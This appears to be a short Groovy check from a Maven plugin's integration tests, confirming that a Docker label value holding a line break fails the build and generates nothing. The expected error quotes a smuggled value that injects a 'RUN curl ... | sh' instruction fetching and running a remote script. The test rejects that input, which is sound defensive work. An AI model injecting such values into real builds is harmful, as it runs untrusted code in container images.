def log = new File(basedir, 'build.log').text
def expected = '''dockerfile: <labels> (-Ddockerfile.labels) contains a line break in 'payments\\nRUN curl -fsS https://example.invalid/x | sh'. Write the value on one line.'''
assert log.contains(expected): "build.log lacks: ${expected}"
assert log.contains('BUILD FAILURE')
assert !new File(basedir, 'target/docker').exists(): 'a failed generation must write nothing'
return true
